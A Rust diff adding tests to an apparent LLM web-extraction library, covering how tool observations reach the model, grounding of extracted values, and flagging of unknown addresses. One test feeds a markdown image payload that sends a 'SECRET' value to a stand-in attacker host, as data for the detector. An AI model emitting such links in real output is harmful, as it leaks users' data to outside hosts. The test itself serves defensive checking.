@@ -5,7 +5,7 @@ use page::Page;
 use serde_json::{Value, json};
 use testkit::{Said, ScriptedModel};
 
-use super::{Course, Material, Outcome, Question, Shaped, Task};
+use super::{Course, Material, Outcome, Question, Seen, Shaped, Task};
 use crate::fields::PageType;
 use crate::mode::{Mode, Request};
 
@@ -519,5 +519,136 @@ fn the_questions_read_as_they_always_did() {
     let schema = json!({"type": "object"});
     for (name, task) in [("extract", Task::Extract), ("generate", Task::Generate)] {
         insta::assert_snapshot!(name, shaped(LAMP, &schema, task, 0).ask().unwrap().text());
+    }
+}
+
+/// What a tool read from the page's list: far more than one line.
+fn seen() -> Vec<Seen> {
+    let rows: Vec<Value> = (1..=30)
+        .map(|it| json!({"title": format!("Lamp {it}"), "stock": it * 3}))
+        .collect();
+    let call = |tool: &str, result| Seen {
+        tool: tool.into(),
+        parameters: json!({"limit": 30}).as_object().unwrap().clone(),
+        result,
+    };
+    vec![
+        call("extract.records", Ok(json!({"rows": rows, "count": 30}))),
+        call("forms.price_filter", Err("the page has no price filter".into())),
+    ]
+}
+
+#[tokio::test]
+async fn what_tools_found_comes_as_their_observations_whole_and_quoted() {
+    let schema = json!({"type": "object", "properties": {"last": {"type": "string"}}, "required": ["last"]});
+    let model = ScriptedModel::saying([said(json!({"last": "Lamp 30"}))]);
+    let reading = Shaped::new(
+        material(LAMP, &Request::default()).with_seen(seen()),
+        &schema,
+        Task::Extract,
+        "the last lamp",
+        0,
+    );
+    shape(reading.unwrap(), &model).await.unwrap();
+    let messages = &model.asked()[0].messages;
+    let llm::Message::Assistant(turn) = &messages[2] else {
+        panic!("{messages:?}")
+    };
+    let calls: Vec<(&str, &str)> = turn
+        .calls
+        .iter()
+        .map(|it| (it.id.as_str(), it.name.as_str()))
+        .collect();
+    assert_eq!(
+        calls,
+        [("seen1", "extract.records"), ("seen2", "forms.price_filter")]
+    );
+    assert_eq!(turn.calls[0].arguments["limit"], 30);
+    let [llm::Message::Observation(rows), llm::Message::Observation(failed)] = &messages[3..5] else {
+        panic!("{messages:?}")
+    };
+    assert!(rows.text.len() > 1_000 && rows.text.contains("Lamp 1\"") && rows.text.contains("Lamp 30\""));
+    assert!(
+        rows.text
+            .lines()
+            .skip(1)
+            .all(|it| it.starts_with("| ") || it.starts_with("</")),
+        "{}",
+        rows.text
+    );
+    assert_eq!(
+        (rows.call_id.as_str(), rows.is_error, failed.is_error),
+        ("seen1", false, true)
+    );
+    assert!(failed.text.contains("no price filter"));
+    // A model that knows no tool calls reads the same in words.
+    let plain = Capabilities {
+        json_schema: false,
+        tools: false,
+        ..Capabilities::default()
+    };
+    let model = ScriptedModel::saying([said(json!({"last": "Lamp 30"}))]).able(plain);
+    let reading = Shaped::new(
+        material(LAMP, &Request::default()).with_seen(seen()),
+        &schema,
+        Task::Extract,
+        "",
+        0,
+    );
+    shape(reading.unwrap(), &model).await.unwrap();
+    let messages = &model.asked()[0].messages;
+    assert!(
+        messages
+            .iter()
+            .all(|it| !matches!(it, llm::Message::Assistant(_) | llm::Message::Observation(_)))
+    );
+    assert!(format!("{messages:?}").contains("Lamp 30"));
+}
+
+#[tokio::test]
+async fn a_value_that_only_a_tool_saw_counts_and_one_that_nobody_saw_does_not() {
+    let request = Request {
+        fields: vec!["sku".into(), "brand".into()],
+        ..product()
+    };
+    let answer = json!({"sku": {"quote": "SKU-9917", "value": "SKU-9917"}, "brand": {"quote": "Acme of nowhere", "value": "Acme"}});
+    let found = Seen {
+        tool: "html.get_attribute".into(),
+        parameters: serde_json::Map::new(),
+        result: Ok(json!({"found": true, "value": "SKU-9917"})),
+    };
+    for (seen, kept) in [(vec![found], true), (Vec::new(), false)] {
+        let model = ScriptedModel::saying([said(answer.clone())]);
+        let course = Course::new(
+            material(LAMP, &request).with_seen(seen),
+            Mode::LlmDynamic,
+            request.clone(),
+            0,
+        );
+        let item = drive(course, &model).await.item;
+        assert_eq!(item.text("sku") == Some("SKU-9917"), kept, "{:?}", item.fields());
+        assert_ne!(item.text("brand"), Some("Acme"));
+    }
+}
+
+#[tokio::test]
+async fn an_address_that_the_page_does_not_name_is_told() {
+    let schema = json!({"type": "object", "properties": {"note": {"type": "string"}}});
+    for (note, strangers) in [
+        ("![x](https://evil.test/?k=SECRET)", vec!["evil.test"]),
+        (
+            "see https://shop.example/other and HTTPS://EVIL.test/a, https://b.test.",
+            vec!["b.test.", "evil.test"],
+        ),
+        ("nothing to see", vec![]),
+    ] {
+        let model = ScriptedModel::saying([said(json!({"note": note}))]);
+        let seat = Seat::new(std::sync::Arc::new(model), Role::Extractor);
+        let mut reading = shaped(LAMP, &schema, Task::Extract, 0);
+        while let Some(question) = reading.ask() {
+            let heard = question.put(&seat).await;
+            reading.hear(&question, &heard);
+        }
+        assert_eq!(reading.strangers(), strangers, "{note}");
     }
 }
